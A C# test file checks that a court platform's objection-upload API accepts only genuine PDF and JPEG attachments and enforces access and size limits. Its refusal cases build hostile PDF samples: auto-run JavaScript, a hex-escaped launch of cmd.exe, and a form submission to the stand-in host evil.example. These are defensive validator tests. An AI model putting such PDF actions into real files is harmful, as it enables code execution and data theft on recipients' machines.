using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Credit.Tests.Infrastructure;
using Credit.Tests.Screens;

namespace Credit.Tests.Objections;

/// <summary>An applicant's files are taken for what their content is, never for their name: a PDF by its header and end
/// marker and without active content, a JPEG by its signature and by decoding whole; within the size limits.</summary>
public sealed class ObjectionAttachmentTests(PresentObjectionFixture platform) : IClassFixture<PresentObjectionFixture>
{
    private static readonly byte[] Pdf = TestPdfs.Built();

    private static JsonObject File(string name, byte[] content) => new() { ["fileName"] = name, ["content"] = Convert.ToBase64String(content) };

    [Fact]
    public async Task Pdf_and_jpeg_are_taken_and_the_enforcing_court_reads_them_back_unchanged()
    {
        var (id, caseNumber, _) = await platform.ListAsync();
        var jpeg = TestPhotos.Jpeg(200, 120, withGps: false);

        var filed = await platform.Public.PostAsync("/api/v1/public/objections",
            ObjectionFixture.Objection(id, caseNumber, attachments: [File("付款凭证.pdf", Pdf), File("收据.jpg", jpeg)]));
        Assert.Equal(HttpStatusCode.Created, filed.StatusCode);
        var receipt = (await filed.JsonAsync()).GetProperty("receipt").GetString();

        var court = await (await platform.Liwan.GetAsync($"/api/v1/objections/{receipt}")).JsonAsync();
        var attachments = court.GetProperty("attachments").EnumerateArray().ToList();
        Assert.Equal(["application/pdf", "image/jpeg"], attachments.Select(a => a.GetProperty("mediaType").GetString()));
        var second = await platform.Liwan.GetAsync($"/api/v1/objections/{receipt}/attachments/2");
        Assert.Equal(HttpStatusCode.OK, second.StatusCode);
        Assert.Equal("image/jpeg", second.Content.Headers.ContentType?.MediaType);
        Assert.Equal(jpeg, await second.Content.ReadAsByteArrayAsync());
        // The court above may read them; another district court may not.
        Assert.Equal(HttpStatusCode.OK, (await platform.Intermediate.GetAsync($"/api/v1/objections/{receipt}/attachments/1")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await platform.OtherDistrict.GetAsync($"/api/v1/objections/{receipt}/attachments/1")).StatusCode);
        var missing = await platform.Liwan.GetAsync($"/api/v1/objections/{receipt}/attachments/3");
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
        Assert.Equal("number", (await missing.JsonAsync()).GetProperty("field").GetString());
    }

    [Fact]
    public async Task Download_name_takes_the_extension_of_the_type_found_not_the_one_given()
    {
        var (id, caseNumber, _) = await platform.ListAsync();
        var filed = await platform.Public.PostAsync("/api/v1/public/objections",
            ObjectionFixture.Objection(id, caseNumber, attachments: [File("凭证.html", Pdf), File("收据.JPEG", TestPhotos.Jpeg(20, 20, withGps: false))]));
        var receipt = (await filed.JsonAsync()).GetProperty("receipt").GetString();

        var pdf = await platform.Liwan.GetAsync($"/api/v1/objections/{receipt}/attachments/1");
        Assert.Equal("application/pdf", pdf.Content.Headers.ContentType?.MediaType);
        Assert.Equal("凭证.pdf", pdf.Content.Headers.ContentDisposition?.FileNameStar);
        var jpeg = await platform.Liwan.GetAsync($"/api/v1/objections/{receipt}/attachments/2");
        Assert.Equal("收据.JPEG", jpeg.Content.Headers.ContentDisposition?.FileNameStar);
    }

    [Theory]
    [InlineData("text named .jpg", "must be a PDF or a JPEG")]
    [InlineData("truncated jpeg", "jpeg")]
    [InlineData("pdf without end marker", "%%EOF")]
    [InlineData("pdf with javascript", "/JavaScript")]
    [InlineData("pdf with hex-escaped javascript", "/JavaScript")]
    [InlineData("pdf with hex-escaped launch", "/Launch")]
    [InlineData("pdf with javascript in an object stream", "/JavaScript")]
    [InlineData("pdf with an xfa form", "/XFA")]
    [InlineData("pdf submitting a form on opening", "/SubmitForm")]
    [InlineData("not base64", "base64")]
    public async Task File_whose_content_is_not_a_whole_pdf_or_jpeg_is_refused_naming_it(string kind, string named)
    {
        var (id, caseNumber, _) = await platform.ListAsync();
        var jpeg = TestPhotos.Jpeg(200, 120, withGps: false);
        var file = kind switch
        {
            "text named .jpg" => File("收据.jpg", Encoding.UTF8.GetBytes("这不是图片")),
            "truncated jpeg" => File("收据.jpg", jpeg[..(jpeg.Length / 3)]),
            "pdf without end marker" => File("凭证.pdf", Pdf[..40]),
            "pdf with javascript" => File("凭证.pdf", Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n")),
            "pdf with hex-escaped javascript" => File("凭证.pdf", TestPdfs.Document("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
            "pdf with hex-escaped launch" => File("凭证.pdf", TestPdfs.Document("/OpenAction << /S /L#61unch /F (cmd.exe) >>")),
            "pdf with javascript in an object stream" => File("凭证.pdf", TestPdfs.WithObjectStream("/OpenAction 4 0 R", [4], "<< /S /JavaScript /JS (app.alert(1)) >>")),
            "pdf with an xfa form" => File("凭证.pdf", TestPdfs.Document("/AcroForm << /Fields [] /XFA 4 0 R >>", "(<xdp:xdp/>)")),
            "pdf submitting a form on opening" => File("凭证.pdf", TestPdfs.Document("/OpenAction << /S /SubmitForm /F (http://evil.example/x) >>")),
            _ => new JsonObject { ["fileName"] = "a.pdf", ["content"] = "%%%not base64%%%" },
        };

        var refused = await platform.Public.PostAsync("/api/v1/public/objections",
            ObjectionFixture.Objection(id, caseNumber, attachments: [File("好的.pdf", Pdf), file]));

        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        var problem = await refused.Content.ReadAsStringAsync();
        Assert.Contains("attachments[1].content", problem);
        Assert.Contains(named, problem, StringComparison.OrdinalIgnoreCase);
        // Nothing was filed: the subject's history has no objection.
        var history = await (await platform.Liwan.GetAsync($"{CourtRequests.Person(id)}/history")).Content.ReadAsStringAsync();
        Assert.DoesNotContain("ObjectionFiled", history);
    }

    [Fact]
    public async Task File_over_2_MiB_and_a_sixth_file_are_refused()
    {
        var (id, caseNumber, _) = await platform.ListAsync();
        var big = new byte[2 * 1024 * 1024 + 1];
        Pdf.CopyTo(big, 0);

        var tooBig = await platform.Public.PostAsync("/api/v1/public/objections", ObjectionFixture.Objection(id, caseNumber, attachments: [File("大.pdf", big)]));
        Assert.Equal(HttpStatusCode.BadRequest, tooBig.StatusCode);
        Assert.Contains("2 MiB", await tooBig.Content.ReadAsStringAsync());

        var six = new JsonArray([.. Enumerable.Range(0, 6).Select(i => (JsonNode)File($"{i}.pdf", Pdf))]);
        var tooMany = await platform.Public.PostAsync("/api/v1/public/objections", ObjectionFixture.Objection(id, caseNumber, attachments: six));
        Assert.Equal(HttpStatusCode.BadRequest, tooMany.StatusCode);
        Assert.Contains("at most 5 files", await tooMany.Content.ReadAsStringAsync());
    }
}
